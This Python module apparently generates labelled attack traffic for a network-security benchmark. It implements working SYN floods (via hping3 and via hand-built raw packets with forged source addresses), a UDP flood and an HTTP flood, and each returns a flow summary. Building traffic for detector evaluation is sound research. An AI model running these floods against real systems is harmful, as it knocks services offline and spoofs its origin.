"""Floods, all of a few hundred connections or a few thousand packets: SYN, UDP, HTTP."""

import ipaddress
import re
import socket
import struct
import subprocess
import time

from .sockets import abort, connect_web, family_of
from .workers import repeat


def hping(task):
    """SYN packets from the attacker's own address; its system resets what the victim answers."""
    port, window, interval = task.settings["port"], task.rng.choice((512, 1024, 64_240)), f"u{int(task.settings['gap'] * 1e6)}"
    command = ["hping3", "--quiet", "--syn", "--destport", str(port), "--baseport", str(task.block.first), "--win", str(window),
               "--count", str(task.settings["count"]), "--interval", interval, task.target]
    report = subprocess.run(command, check=False, timeout=60, capture_output=True, text=True).stderr
    # It stops early when repeated answers make up the count; each packet it sent has a port of its own.
    sent = int(re.search(r"(\d+) packets transmitted", report)[1])
    return {"tool": "hping3 --syn", "protocol": "tcp", "destination_ports": [port], "flows": sent}


def checksum(data):
    """The Internet checksum."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(rng, source, target, source_port, target_port):
    """An IPv4 packet with a SYN, with options as systems send them or with none."""
    options = rng.choice((b"", b"\x02\x04\x05\xb4", b"\x02\x04\x05\xb4\x01\x03\x03\x08\x01\x01\x04\x02",
                          b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + rng.randbytes(4) + b"\0\0\0\0\x01\x03\x03\x07"))
    header = struct.pack("!HHIIBBHHH", source_port, target_port, rng.getrandbits(32), 0, (5 + len(options) // 4) << 4, 2,
                         rng.choice((1_024, 8_192, 29_200, 64_240)), 0, 0) + options
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    total = checksum(ends + struct.pack("!BBH", 0, 6, len(header)) + header)
    header = header[:16] + struct.pack("!H", total) + header[18:]
    lifetime = rng.choice((64, 128, 255))
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(header), rng.randrange(65_536), 0x4000, lifetime, 6, 0) + ends + header


def spoofed_syn_flood(task):
    """SYN packets from forged addresses of the benchmark network, some of them repeated as systems do."""
    network = ipaddress.ip_network(task.settings["network"])
    forged = set()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        while len(forged) < task.settings["count"] and not task.over():
            source = str(network[task.rng.randrange(1, network.num_addresses - 1)])
            port = task.rng.randrange(1_024, 65_536)
            forged.add((source, port))
            packet = syn_packet(task.rng, source, task.target, port, task.settings["port"])
            for _ in range(task.rng.choice((1, 1, 1, 2, 3))):
                sock.sendto(packet, (task.target, 0))
                time.sleep(task.rng.expovariate(1 / task.settings["gap"]))
    return {"tool": "forged SYN packets", "protocol": "tcp", "source": [task.settings["network"]],
            "destination_ports": [task.settings["port"]], "flows": len(forged)}


def udp_flood(task):
    """Datagrams of random sizes from many local ports to open and closed ports, a few at a time."""
    low, high = task.settings["bytes"]
    made = 0
    active = []

    def send(sock, port):
        sock.sendto(task.rng.randbytes(task.rng.randrange(low, high)), (task.target, port))
        time.sleep(task.rng.expovariate(1 / task.settings["gap"]))

    while (active or made < task.settings["flows"]) and not task.over():
        while made < task.settings["flows"] and len(active) < 6:
            made += 1
            sock = socket.socket(family_of(task.target), socket.SOCK_DGRAM)
            task.block.bind(sock)
            port = task.rng.choice(task.settings["ports"])
            active.append([sock, port, int(task.rng.expovariate(1 / task.settings["packets"]))])
            send(sock, port)
        entry = task.rng.choice(active)
        if entry[2] > 0:
            entry[2] -= 1
            send(entry[0], entry[1])
        else:
            active.remove(entry)
            entry[0].close()
    for entry in active:
        entry[0].close()
    return {"tool": "UDP flood", "protocol": "udp", "destination_ports": sorted(task.settings["ports"]), "flows": made,
            "unreachable": True}


def flood_once(task, rng):
    """One connection of an HTTP flood: requests without a pause, ended in one of several ways."""
    try:
        connection = connect_web(task.target, rng.random() < task.settings["tls"], task.block)
    except OSError:
        return
    sock = connection.sock
    try:
        for _ in range(1 + int(rng.expovariate(1 / task.settings["requests"]))):
            path = rng.choice((f"/page/{rng.randrange(40)}.html", f"/api/{rng.randrange(15)}.json", f"/asset/{rng.randrange(70)}.bin"))
            connection.request("GET", f"{path}?{rng.getrandbits(48):x}", headers={"Cache-Control": "no-cache", "Accept": "*/*"})
            if rng.random() < 0.15:
                break
            connection.getresponse().read()
            time.sleep(rng.expovariate(1 / 0.01))
    except (OSError, ValueError):
        pass  # The server was faster to close.
    abort(sock) if rng.random() < 0.4 else sock.close()


def http_flood(task):
    """Several workers that open one connection after the other."""

    def once(rng):
        flood_once(task, rng)
        time.sleep(rng.expovariate(1 / 0.25))

    made = repeat(task, task.settings["connections"], task.settings["workers"], once)
    return {"tool": "HTTP flood", "protocol": "tcp", "destination_ports": [80, 443], "flows": made}
